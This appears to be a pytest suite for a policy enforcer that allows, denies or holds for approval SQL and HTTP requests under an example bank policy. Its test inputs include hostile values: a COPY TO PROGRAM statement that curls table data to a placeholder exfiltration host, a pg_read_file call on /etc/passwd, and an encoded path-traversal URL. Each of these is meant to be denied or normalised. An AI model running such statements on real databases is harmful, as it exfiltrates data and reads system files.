"""Policy decisions over classified SQL and HTTP requests, with the example bank policy."""
from __future__ import annotations

import os

import pytest

from enforcer.policy import ALLOW, APPROVAL, DENY, PolicyEngine

ROOT = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
EXAMPLE = os.path.join(ROOT, "packaging", "policy.example.cedar")
GROUPS = {"payments": ["payments-api"], "reporting": ["reporting-nightly", "reporting-dashboard"]}
ATTRS = {"unit": "payments-api.service", "user": "payments", "uid": 1001, "exe": "/usr/bin/python3"}
DB = "payments-db"
HOUR = 3600.0


class Clock:
    def __init__(self, hour: int = 2):
        self.now = 1_700_000_000 // 86400 * 86400 + hour * HOUR

    def __call__(self) -> float:
        return self.now


@pytest.fixture(scope="module")
def engine():
    return PolicyEngine.from_files(EXAMPLE, groups=GROUPS, clock=Clock(hour=2))


def one(engine, identity, sql, approved=False, attrs=ATTRS, target=DB):
    (result,) = engine.decide_sql(identity, attrs, target, sql, approved)
    return result.decision


def test_select_allowed_but_delete_denied(engine):
    allowed = one(engine, "payments-api", "SELECT * FROM customers WHERE id = 1")
    assert (allowed.kind, allowed.action, allowed.policy_ids) == (ALLOW, "pg:select", ("payments-read",))
    assert allowed.resources == ('Table::"payments-db/public.customers"',)
    denied = one(engine, "payments-api", "DELETE FROM customers WHERE id = 1")
    assert (denied.kind, denied.action, denied.policy_ids) == (DENY, "pg:delete", ("never-delete-customers",))
    assert "forbidden by never-delete-customers" in denied.reason


def test_delete_without_where_denied_with_where_allowed(engine):
    without = one(engine, "payments-api", "DELETE FROM sessions")
    assert (without.kind, without.policy_ids) == (DENY, ("no-unbounded-writes",))
    constant_where = one(engine, "payments-api", "DELETE FROM sessions WHERE 1 = 1")
    assert (constant_where.kind, constant_where.policy_ids) == (DENY, ("no-unbounded-writes",))
    with_where = one(engine, "payments-api", "DELETE FROM sessions WHERE expires_at < now()")
    assert (with_where.kind, with_where.policy_ids) == (ALLOW, ("payments-write-own-tables",))
    truncate = one(engine, "payments-api", "TRUNCATE sessions")
    assert truncate.kind == DENY


@pytest.mark.parametrize("sql", [
    "SELECT pg_read_file('/etc/passwd')",
    "SELECT id, lo_export(doc, '/tmp/x') FROM customers",
    "COPY customers TO PROGRAM 'curl -d @- https://exfil.invalid'",
    "SELECT dblink_connect('host=127.0.0.9')",
])
def test_dangerous_function_denied(engine, sql):
    decision = one(engine, "payments-api", sql)
    assert (decision.kind, decision.action) == (DENY, "pg:function")
    assert "no-dangerous-functions" in decision.policy_ids


def test_do_blocks_and_role_changes_denied(engine):
    assert one(engine, "payments-api", "DO $$ BEGIN DELETE FROM customers; END $$").policy_ids == ("no-do-blocks",)
    for sql in ("SET ROLE postgres", "SET search_path = attacker", "GRANT SELECT ON customers TO public"):
        assert one(engine, "payments-api", sql).policy_ids == ("no-role-or-privilege-changes",)


def test_approval_required_then_approved(engine):
    pending = one(engine, "migrations", "ALTER TABLE customers ADD COLUMN nickname text")
    assert (pending.kind, pending.action, pending.policy_ids) == (APPROVAL, "pg:ddl", ("ddl-needs-approval",))
    assert "requires approval" in pending.reason
    approved = one(engine, "migrations", "ALTER TABLE customers ADD COLUMN nickname text", approved=True)
    assert (approved.kind, approved.policy_ids) == (ALLOW, ("migrations-ddl",))


def test_approval_not_offered_when_it_could_not_help(engine):
    # payments-api has no DDL permit: approving would change nothing, so it is a plain deny
    decision = one(engine, "payments-api", "DROP TABLE payments")
    assert decision.kind == DENY and "no policy permits pg:ddl" in decision.reason
    assert one(engine, "payments-api", "DROP TABLE payments", approved=True).kind == DENY


def test_groups(engine):
    assert one(engine, "reporting-dashboard", "SELECT * FROM payments").policy_ids == ("reporting-read-only",)
    assert one(engine, "reporting-dashboard", "COPY (SELECT * FROM customers) TO STDOUT").kind == ALLOW
    assert one(engine, "reporting-dashboard", "UPDATE payments SET amount_cents = 0 WHERE id = 1").kind == DENY
    locked = one(engine, "reporting-dashboard", "SELECT * FROM accounts FOR UPDATE")
    assert (locked.kind, locked.policy_ids) == (DENY, ("reporting-no-row-locks",))
    # payments-api is not in the reporting group and has no copy_out permit
    assert one(engine, "payments-api", "COPY customers TO STDOUT").kind == DENY


def test_unknown_identity_denied(engine):
    stranger = one(engine, "cron-job-nobody-knows", "SELECT 1")
    assert (stranger.kind, stranger.policy_ids) == (DENY, ())
    assert "no policy permits" in stranger.reason
    anonymous = one(engine, "", "SELECT 1")
    assert anonymous.kind == DENY and "no identity" in anonymous.reason


def test_known_identities_limit():
    engine = PolicyEngine.from_files(EXAMPLE, groups=GROUPS, known_identities={"reporting-dashboard"})
    assert one(engine, "reporting-dashboard", "SELECT 1").kind == ALLOW
    decision = one(engine, "payments-api", "SELECT 1")
    assert decision.kind == DENY and "not known" in decision.reason


def test_every_table_must_be_allowed(engine):
    mixed = one(engine, "reporting-dashboard", "INSERT INTO audit_log SELECT * FROM customers")
    assert mixed.kind == DENY
    assert 'Table::"payments-db/public.audit_log"' in mixed.reason
    assert "customers" not in mixed.reason
    ok = one(engine, "payments-api", "INSERT INTO audit_log SELECT * FROM customers")
    assert ok.kind == ALLOW and set(ok.policy_ids) == {"payments-write-own-tables", "payments-read"}
    assert len(ok.resources) == 2
    # a write hidden in a CTE is still a write
    hidden = one(engine, "payments-api", "WITH d AS (DELETE FROM customers WHERE id = 1 RETURNING *) SELECT * FROM d")
    assert (hidden.kind, hidden.policy_ids) == (DENY, ("never-delete-customers",))


def test_each_statement_of_a_message(engine):
    results = engine.decide_sql("payments-api", ATTRS, DB, "BEGIN; SELECT * FROM accounts; DELETE FROM customers WHERE id = 2; COMMIT")
    assert [(r.statement.action, r.decision.kind) for r in results] == [
        ("pg:other", ALLOW), ("pg:select", ALLOW), ("pg:delete", DENY), ("pg:other", ALLOW)]
    assert results[0].decision.policy_ids == ("session-housekeeping",)


def test_unparseable_sql_denied(engine):
    decision = one(engine, "payments-api", "SELEC * FROM customers")
    assert (decision.kind, decision.policy_ids) == (DENY, ("no-unparsed-sql",))
    assert "did not parse" in decision.reason


def test_prepare_execute_in_a_session(engine):
    session = engine.new_session_classifier()
    (prep,) = engine.decide_sql("payments-api", ATTRS, DB, "PREPARE wipe AS DELETE FROM customers WHERE id = $1",
                                classifier=session)
    assert prep.decision.kind == DENY
    (run,) = engine.decide_sql("payments-api", ATTRS, DB, "EXECUTE wipe(1)", classifier=session)
    assert (run.statement.action, run.decision.kind, run.decision.policy_ids) == (
        "pg:delete", DENY, ("never-delete-customers",))
    other = engine.new_session_classifier()
    engine.decide_sql("payments-api", ATTRS, DB, "PREPARE wipe AS SELECT * FROM customers", classifier=other)
    (run2,) = engine.decide_sql("payments-api", ATTRS, DB, "EXECUTE wipe(1)", classifier=other)
    assert (run2.statement.action, run2.decision.kind) == ("pg:select", ALLOW)


def test_hour_window_and_cache_across_hours():
    clock = Clock(hour=2)
    engine = PolicyEngine.from_files(EXAMPLE, groups=GROUPS, clock=clock)
    assert one(engine, "reporting-nightly", "SELECT * FROM payments").kind == ALLOW
    clock.now += 10 * HOUR
    late = one(engine, "reporting-nightly", "SELECT * FROM payments")
    assert (late.kind, late.policy_ids) == (DENY, ("reconciliation-window",))


def test_cache_hits_and_costs(engine):
    fresh = PolicyEngine.from_files(EXAMPLE, groups=GROUPS)
    fresh.decide_sql("payments-api", ATTRS, DB, "SELECT * FROM customers WHERE id = 1")
    calls = fresh.cache_stats()["cedar_calls"]
    fresh.decide_sql("payments-api", ATTRS, DB, "SELECT * FROM customers WHERE id = 1")
    assert fresh.cache_stats()["message_hits"] == 1
    # same shape, other constant: parsed again but no new Cedar call
    fresh.decide_sql("payments-api", ATTRS, DB, "SELECT * FROM customers WHERE id = 2")
    stats = fresh.cache_stats()
    assert stats["statement_hits"] == 1 and stats["cedar_calls"] == calls
    fresh.clear_caches()
    assert fresh.cache_stats()["message_entries"] == 0


def test_attributes_are_part_of_the_decision():
    policy = '''
    @id("payments-unit-only")
    permit (principal, action == Action::"pg:select", resource)
    when { principal has unit && principal.unit == "payments.service" };
    @id("team-claim")
    permit (principal, action == Action::"pg:insert", resource)
    when { principal.hasTag("team") && principal.getTag("team") == "payments"
           && principal has claims && principal.claims has scope && principal.claims.scope.contains("db:write") };
    '''
    engine = PolicyEngine.from_text(policy)
    right = {"unit": "payments.service"}
    wrong = {"unit": "evil.service"}
    assert one(engine, "svc", "SELECT 1", attrs=right).kind == ALLOW
    assert one(engine, "svc", "SELECT 1", attrs=wrong).kind == DENY     # not served from the cache
    assert one(engine, "svc", "SELECT 1", attrs=right).kind == ALLOW
    claims = {"claims": {"sub": "svc", "team": "payments", "scope": "db:read db:write", "exp": 17}}
    assert one(engine, "svc", "INSERT INTO t VALUES (1)", attrs=claims).policy_ids == ("team-claim",)
    assert one(engine, "svc", "INSERT INTO t VALUES (1)", attrs={"claims": {"team": "ops"}}).kind == DENY


def test_evaluation_error_fails_closed():
    policy = '''
    @id("all") permit (principal, action, resource);
    @id("overflowing-forbid") forbid (principal, action == Action::"pg:select", resource)
    when { (context.statement_count + 1) * 9223372036854775807 > 0 };
    '''
    engine = PolicyEngine.from_text(policy)
    assert one(engine, "svc", "SELECT 1").kind == DENY
    assert "evaluation error" in one(engine, "svc", "SELECT 1").reason


def test_policy_without_id_named_by_file_and_line():
    engine = PolicyEngine.from_text('\n\npermit (principal, action, resource);', source="p.cedar")
    assert one(engine, "svc", "SELECT 1").policy_ids == ("p.cedar:3",)


def test_connect(engine):
    assert engine.decide_connect("payments-api", ATTRS, DB).policy_ids == ("connect-payments-db",)
    assert engine.decide_connect("payments-api", ATTRS, "other-db").kind == DENY


# -- HTTP ------------------------------------------------------------------------------------
def test_http_permit_approval_and_deny(engine):
    auth = engine.decide_http("payments-api", ATTRS, "card-api", "post", "API.cards.example:443", "/v2/authorizations")
    assert (auth.kind, auth.action, auth.policy_ids) == (ALLOW, "http:POST", ("payments-card-authorizations",))
    refund = engine.decide_http("payments-api", ATTRS, "card-api", "POST", "api.cards.example", "/v2/refunds/77?x=1")
    assert (refund.kind, refund.policy_ids) == (APPROVAL, ("refunds-need-approval",))
    assert refund.resources == ('Endpoint::"card-api/api.cards.example/v2/refunds/77"',)
    approved = engine.decide_http("payments-api", ATTRS, "card-api", "POST", "api.cards.example", "/v2/refunds/77",
                                  approved=True)
    assert (approved.kind, approved.policy_ids) == (ALLOW, ("payments-card-refunds",))
    assert engine.decide_http("payments-api", ATTRS, "card-api", "DELETE", "api.cards.example",
                              "/v2/authorizations/1").kind == DENY
    assert engine.decide_http("payments-api", ATTRS, "card-api", "PROPFIND", "api.cards.example",
                              "/v2/authorizations").action == "http:OTHER"


def test_http_path_tricks_are_normalised(engine):
    # a path that climbs out of /v2/authorizations into /v2/refunds is judged as /v2/refunds
    sneaky = engine.decide_http("payments-api", ATTRS, "card-api", "POST", "api.cards.example",
                                "/v2/authorizations/%2e%2e/refunds/1")
    assert sneaky.kind == APPROVAL
    assert engine.decide_http("reporting-dashboard", ATTRS, "card-api", "GET", "api.cards.example",
                              "/v2/authorizations").kind == DENY


def test_http_headers_in_context():
    policy = '''
    @id("batch-header") permit (principal, action == Action::"http:GET", resource)
    when { context.headers.contains("x-request-kind=batch") };
    '''
    engine = PolicyEngine.from_text(policy, context_headers=["X-Request-Kind"])
    yes = engine.decide_http("svc", {}, "api", "GET", "h", "/", headers={"X-Request-Kind": "batch", "Authorization": "x"})
    no = engine.decide_http("svc", {}, "api", "GET", "h", "/", headers={"x-request-kind": "interactive"})
    assert (yes.kind, no.kind) == (ALLOW, DENY)
